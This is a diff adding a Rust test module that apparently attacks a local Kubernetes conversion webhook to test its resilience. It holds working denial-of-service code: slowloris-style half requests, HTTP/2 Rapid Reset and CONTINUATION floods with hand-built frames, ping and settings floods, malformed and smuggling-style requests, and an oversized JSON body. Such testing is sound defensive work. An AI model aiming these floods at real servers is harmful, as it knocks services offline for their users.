@@ -1,0 +1,249 @@
+//! What somebody does who can reach the port and means no good. All on the loopback address, bounded in number.
+
+use std::iter;
+use std::net::SocketAddr;
+use std::thread;
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::runtime::Builder;
+use tokio::sync::oneshot;
+use tokio::task::JoinSet;
+use tokio::time::sleep;
+
+use super::client::Dial;
+
+#[derive(Clone, Copy, Debug)]
+pub(crate) enum Attack {
+    /// Connections to the webhooks that say nothing, not even for TLS.
+    Silent,
+    /// The same on the port of the probes.
+    SilentAdmin,
+    /// TLS, and nothing more.
+    IdleTls,
+    /// TLS, and half a head.
+    HalfHeads,
+    /// Most of a large body, and then nothing more.
+    HalfBodies,
+    /// HTTP/2 streams whose body never begins.
+    Announced,
+    /// Answers that are never read.
+    Unread,
+    /// Handshakes, one after the other.
+    Handshakes,
+    /// HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487).
+    RapidReset,
+    /// A head in HTTP/2 that never ends (CVE-2024-27316).
+    Continuation,
+    /// Pings that have to be answered.
+    Pings,
+    /// Settings that have to be acknowledged.
+    Settings,
+    /// What is no HTTP.
+    Malformed,
+    /// Reviews of nothing but empty objects.
+    EmptyObjects,
+    /// Reviews that are none, and are refused one by one.
+    Refused,
+}
+
+impl Attack {
+    pub(crate) const ALL: [Self; 15] = [
+        Self::Silent,
+        Self::SilentAdmin,
+        Self::IdleTls,
+        Self::HalfHeads,
+        Self::HalfBodies,
+        Self::Announced,
+        Self::Unread,
+        Self::Handshakes,
+        Self::RapidReset,
+        Self::Continuation,
+        Self::Pings,
+        Self::Settings,
+        Self::Malformed,
+        Self::EmptyObjects,
+        Self::Refused,
+    ];
+
+    /// Begins it, on a thread of its own, and keeps it up until the result is dropped.
+    pub(crate) fn begin(self, addr: SocketAddr, admin: SocketAddr, dial: &Dial) -> oneshot::Sender<()> {
+        let (running, end) = oneshot::channel();
+        let dial = dial.clone();
+        thread::spawn(move || {
+            let runtime = Builder::new_current_thread().enable_all().build().unwrap();
+            runtime.block_on(async {
+                let mut attackers = JoinSet::new();
+                for _ in 0..self.times() {
+                    attackers.spawn(self.attack(addr, admin, dial.clone()));
+                }
+                // It is dropped, and so are they.
+                let _ = end.await;
+            });
+        });
+        running
+    }
+
+    fn times(self) -> usize {
+        match self {
+            Self::Silent | Self::SilentAdmin => 500,
+            Self::HalfHeads | Self::IdleTls => 400,
+            Self::HalfBodies => 100,
+            Self::Announced => 9,
+            Self::EmptyObjects | Self::Handshakes | Self::Refused | Self::Malformed | Self::Unread => 4,
+            Self::Continuation | Self::Pings | Self::RapidReset | Self::Settings => 2,
+        }
+    }
+
+    /// What goes wrong here is the attacker's business.
+    async fn attack(self, addr: SocketAddr, admin: SocketAddr, dial: Dial) {
+        let _ = match self {
+            Self::Silent => hold(TcpStream::connect(addr).await).await,
+            Self::SilentAdmin => hold(TcpStream::connect(admin).await).await,
+            Self::IdleTls => hold(dial.handshake().await).await,
+            Self::HalfHeads => write(&dial, HALF_A_HEAD, 0).await,
+            Self::HalfBodies => write(&dial, HEAD, 1_000_000).await,
+            Self::Announced => streams(&dial.http2(), false).await,
+            Self::Unread => streams(&dial.http2().window(0), true).await,
+            Self::Handshakes => again(|| dial.handshake()).await,
+            Self::RapidReset => again(|| flood(&dial, iter::successors(Some(1), |id| Some(id + 2)).map(reset))).await,
+            Self::Continuation => {
+                let frames = || iter::once(frame(1, 0, 1, HEADERS)).chain(iter::repeat_with(|| frame(9, 0, 1, &MORE)));
+                again(|| flood(&dial, frames())).await
+            }
+            Self::Pings => again(|| flood(&dial, iter::repeat_with(|| frame(6, 0, 0, &[0; 8])))).await,
+            Self::Settings => again(|| flood(&dial, iter::repeat_with(|| frame(4, 0, 0, &[])))).await,
+            Self::Malformed => again(|| malformed(&dial)).await,
+            Self::EmptyObjects => again(|| post(&dial, "/convert", empty_objects())).await,
+            Self::Refused => again(|| post(&dial, "/convert", b"{}".to_vec())).await,
+        };
+    }
+}
+
+const HALF_A_HEAD: &str = "POST /convert HTTP/1.1\r\nHost:";
+
+const HEAD: &str =
+    "POST /convert HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000001\r\n\r\n";
+
+async fn hold<T>(held: std::io::Result<T>) -> Option<()> {
+    let _held = held.ok()?;
+    std::future::pending().await
+}
+
+/// Once more as soon as it is over, for ever.
+async fn again<T, F: Future<Output = T>>(attack: impl Fn() -> F) -> Option<()> {
+    loop {
+        attack().await;
+        sleep(Duration::from_millis(1)).await;
+    }
+}
+
+async fn write(dial: &Dial, head: &str, body: usize) -> Option<()> {
+    let mut tls = dial.handshake().await.ok()?;
+    tls.write_all(head.as_bytes()).await.ok()?;
+    tls.write_all(&vec![b' '; body]).await.ok()?;
+    tls.flush().await.ok()?;
+    hold(Ok(tls)).await
+}
+
+async fn streams(dial: &Dial, whole: bool) -> Option<()> {
+    let client = dial.connect().await.ok()?;
+    let mut streams = JoinSet::new();
+    for _ in 0..250 {
+        let mut stream = client.stream();
+        streams.spawn(async move {
+            match whole {
+                true => stream.post("/convert", vec![b' '; 50_000]).await.map(drop),
+                false => stream.announce("/convert", 1 << 20).await.map(drop),
+            }
+        });
+    }
+    while streams.join_next().await.is_some() {}
+    Some(())
+}
+
+/// Posts the same on one connection, a thousand times.
+async fn post(dial: &Dial, path: &str, body: Vec<u8>) -> Option<()> {
+    let mut client = dial.connect().await.ok()?;
+    for _ in 0..1000 {
+        client.post(path, body.clone()).await.ok()?;
+    }
+    Some(())
+}
+
+fn empty_objects() -> Vec<u8> {
+    let objects = vec!["{}"; 700_000].join(",");
+    format!(
+        "{{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":\"ConversionReview\",\"request\":\
+         {{\"uid\":\"u\",\"desiredAPIVersion\":\"materialize.cloud/v1alpha2\",\"objects\":[{objects}]}}}}"
+    )
+    .into_bytes()
+}
+
+async fn malformed(dial: &Dial) -> Option<()> {
+    for shape in MALFORMED {
+        let mut tls = dial.handshake().await.ok()?;
+        tls.write_all(shape.as_bytes()).await.ok()?;
+        tls.flush().await.ok()?;
+        let mut answer = Vec::new();
+        let _ = tokio::time::timeout(Duration::from_millis(20), tls.read_to_end(&mut answer)).await;
+    }
+    Some(())
+}
+
+const MALFORMED: [&str; 8] = [
+    "\r\n\r\n\r\n\r\n",
+    "GET\r\n\r\n",
+    "POST /convert HTTP/9.9\r\n\r\n",
+    "POST /convert HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
+    "POST /convert HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n{}",
+    "POST /convert HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\nzzz\r\n",
+    "POST /convert HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
+    "POST /convert HTTP/1.1\r\n Folded: yes\r\n: no name\r\n\0: \0\r\n\r\n",
+];
+
+/// Sends frames for as long as the server takes them, and reads what it says.
+async fn flood(dial: &Dial, frames: impl Iterator<Item = Vec<u8>>) -> Option<()> {
+    let (mut read, mut write) = tokio::io::split(dial.clone().http2().handshake().await.ok()?);
+    write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await.ok()?;
+    write.write_all(&frame(4, 0, 0, &[])).await.ok()?;
+    let mut reading = JoinSet::new();
+    reading.spawn(async move {
+        let mut buffer = [0; 4096];
+        while read.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
+    });
+    let mut batch = Vec::new();
+    for frame in frames.take(1_000_000) {
+        batch.extend(frame);
+        if batch.len() > 8192 {
+            write.write_all(&batch).await.ok()?;
+            batch.clear();
+            tokio::task::yield_now().await;
+        }
+    }
+    Some(())
+}
+
+/// A frame of HTTP/2 (RFC 9113, 4.1).
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
+    let mut frame = vec![length[1], length[2], length[3], kind, flags];
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// A stream that is opened and reset.
+fn reset(stream: u32) -> Vec<u8> {
+    const END_HEADERS: u8 = 4;
+    let mut frames = frame(1, END_HEADERS, stream & 0x7fff_ffff, HEADERS);
+    frames.extend(frame(3, 0, stream & 0x7fff_ffff, &8_u32.to_be_bytes()));
+    frames
+}
+
+/// `POST https://localhost/convert` in HPACK.
+const HEADERS: &[u8] = b"\x83\x87\x04\x08/convert\x01\x09localhost";
+
+/// A thousand fields `a: b`.
+static MORE: std::sync::LazyLock<Vec<u8>> = std::sync::LazyLock::new(|| b"\x00\x01a\x01b".repeat(1000));
